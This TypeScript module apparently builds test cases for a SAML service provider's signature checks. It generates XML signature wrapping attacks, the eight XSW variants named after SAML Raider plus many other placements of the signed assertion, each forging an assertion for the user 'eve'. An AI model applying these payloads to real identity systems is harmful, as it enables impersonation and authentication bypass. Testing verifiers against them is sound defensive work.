import { namespaces } from './message.ts'
import { copyOf, firstNamed, named, parentOf, replaceTree, setAttribute, textOf, treeOf, type Tree } from './tree.ts'

/** Changes a response: its root is given, and changed, or another root returned. */
export type Surgery = (response: Tree) => Tree | undefined | void

/** XML with its tree changed. */
export const operate = (xml: string, surgery: Surgery): string => {
  const root = treeOf(xml)
  return textOf(surgery(root) ?? root)
}

const element = (name: string, ...children: (Tree | string)[]): Tree => {
  const namespace = name.startsWith('ds:') ? namespaces.signature : name.startsWith('samlp:') ? namespaces.protocol : namespaces.assertion
  return { name, attributes: [[`xmlns:${name.split(':', 1)[0]}`, namespace]], children }
}

/** A copy without its first signature, wherever in it that stands. */
const unsigned = (tree: Tree): Tree => {
  const copy = copyOf(tree)
  const [signature] = named(copy, 'Signature')
  if (signature !== undefined) replaceTree(copy, signature)
  return copy
}

/** Eve in place of whoever it speaks of: NameID, and every value that is an e-mail. */
export const falsify = (tree: Tree): Tree => {
  for (const nameId of named(tree, 'NameID')) nameId.children = ['eve-1']
  for (const value of named(tree, 'AttributeValue')) if (textOf(value).includes('@')) value.children = ['eve@acme.com']
  return tree
}

/** A copy that speaks of eve, unsigned, under another ID; undefined keeps the original's. */
const forged = (tree: Tree, id: string | undefined): Tree => {
  const copy = falsify(unsigned(tree))
  if (id !== undefined) setAttribute(copy, 'ID', id)
  return copy
}

/** Turns the original itself into what is forged, signature and all. */
const corrupt = (tree: Tree, id: string | undefined): void => {
  falsify(tree)
  if (id !== undefined) setAttribute(tree, 'ID', id)
}

/**
 * Signature wrapping 1 to 8 as SAML Raider defines them (XSWHelpers.java): the signed original stays somewhere, and what
 * is read says eve. `id` is the ID of what is forged; undefined keeps the original's, so that there are two of it.
 */
export const wrappings = (id: string | undefined): Readonly<Record<string, Surgery>> => ({
  // a copy of the original response inside its own signature
  XSW1: response => {
    const original = unsigned(response)
    corrupt(response, id)
    firstNamed(response, 'Signature').children.push(original)
  },
  // the copy before the signature
  XSW2: response => {
    const original = unsigned(response)
    corrupt(response, id)
    const signature = firstNamed(response, 'Signature')
    replaceTree(response, signature, original, signature)
  },
  // a forged assertion before the original
  XSW3: response => {
    const assertion = firstNamed(response, 'Assertion')
    replaceTree(response, assertion, forged(assertion, id), assertion)
  },
  // the original inside the forged one
  XSW4: response => {
    const assertion = firstNamed(response, 'Assertion')
    const evil = forged(assertion, id)
    replaceTree(response, assertion, evil)
    evil.children.push(assertion)
  },
  // the signature stays in the forged one, the original at the end
  XSW5: response => {
    const assertion = firstNamed(response, 'Assertion')
    response.children.push(unsigned(assertion))
    corrupt(assertion, id)
  },
  // the original inside the signature inside the forged one
  XSW6: response => {
    const assertion = firstNamed(response, 'Assertion')
    const original = unsigned(assertion)
    corrupt(assertion, id)
    firstNamed(response, 'Signature').children.push(original)
  },
  // the forged one in Extensions
  XSW7: response => {
    const assertion = firstNamed(response, 'Assertion')
    replaceTree(response, assertion, element('samlp:Extensions', forged(assertion, id)), assertion)
  },
  // the original in an Object of the signature
  XSW8: response => {
    const assertion = firstNamed(response, 'Assertion')
    const original = unsigned(assertion)
    corrupt(assertion, id)
    firstNamed(response, 'Signature').children.push(element('ds:Object', original))
  }
})

/** Puts a forged assertion in the original's place, and the original where `hide` says. */
const hiding = (hide: (evil: Tree, original: Tree, response: Tree) => void): Surgery => response => {
  const original = firstNamed(response, 'Assertion')
  const evil = forged(original, '_evil')
  replaceTree(response, original, evil)
  hide(evil, original, response)
}

/** Where else what is signed and what is forged can be put, by name. */
export const hidings: Readonly<Record<string, Surgery>> = {
  'the original in Advice of the forged one': hiding((evil, original) => { evil.children.push(element('saml:Advice', original)) }),
  'the original in an attribute value': hiding((evil, original) => { firstNamed(evil, 'AttributeValue').children.push(original) }),
  'the original in SubjectConfirmationData': hiding((evil, original) => { firstNamed(evil, 'SubjectConfirmationData').children.push(original) }),
  'the original in AuthnContextDecl': hiding((evil, original) => { firstNamed(evil, 'AuthnContext').children.push(element('saml:AuthnContextDecl', original)) }),
  'the original in StatusDetail': hiding((_evil, original, response) => { firstNamed(response, 'Status').children.push(element('samlp:StatusDetail', original)) }),
  'the original in Extensions': hiding((evil, original, response) => { replaceTree(response, evil, element('samlp:Extensions', original), evil) }),
  'the original in an Object beside': hiding((_evil, original, response) => { response.children.push(element('ds:Object', original)) }),
  'the original in a response behind': hiding((_evil, original, response) => {
    response.children.push({ name: response.name, attributes: response.attributes.filter(([name]) => name !== 'ID'), children: [original] })
  }),
  'the original in KeyInfo of its signature': response => {
    const assertion = firstNamed(response, 'Assertion')
    const original = unsigned(assertion)
    corrupt(assertion, '_evil')
    firstNamed(response, 'KeyInfo').children.push(original)
  },
  'the original in a Transform of its signature': response => {
    const assertion = firstNamed(response, 'Assertion')
    const original = unsigned(assertion)
    corrupt(assertion, '_evil')
    firstNamed(response, 'Transform').children.push(original)
  },
  'the signature taken along into the forged one': response => {
    const assertion = firstNamed(response, 'Assertion')
    const [signature] = named(assertion, 'Signature')
    const evil = forged(assertion, '_evil')
    if (signature !== undefined) evil.children.splice(1, 0, signature)
    replaceTree(response, assertion, evil)
  },
  'a response around the response': response => {
    const outer = forged(response, '_outer')
    outer.children.push(response)
    return outer
  },
  'a response in the response': response => { response.children.push(forged(response, '_inner')) },
  'a second AttributeStatement': response => {
    const statement = firstNamed(response, 'AttributeStatement')
    replaceTree(response, statement, falsify(copyOf(statement)), statement)
  },
  'a second Subject': response => {
    const subject = firstNamed(response, 'Subject')
    replaceTree(response, subject, falsify(copyOf(subject)), subject)
  },
  'a second NameID': response => {
    const nameId = firstNamed(response, 'NameID')
    replaceTree(response, nameId, nameId, { ...copyOf(nameId), children: ['eve-1'] })
  },
  'a second value': response => {
    const value = firstNamed(response, 'AttributeValue')
    parentOf(response, value).children.unshift({ ...copyOf(value), children: ['eve@acme.com'] })
  },
  'the signature before everything': response => {
    const signature = firstNamed(response, 'Signature')
    replaceTree(response, signature)
    response.children.unshift(signature)
    falsify(response)
  },
  'the assertion as the document': response => firstNamed(response, 'Assertion'),
  'another root around it': response => ({ name: 'x:Envelope', attributes: [['xmlns:x', 'urn:x']], children: [response] })
}
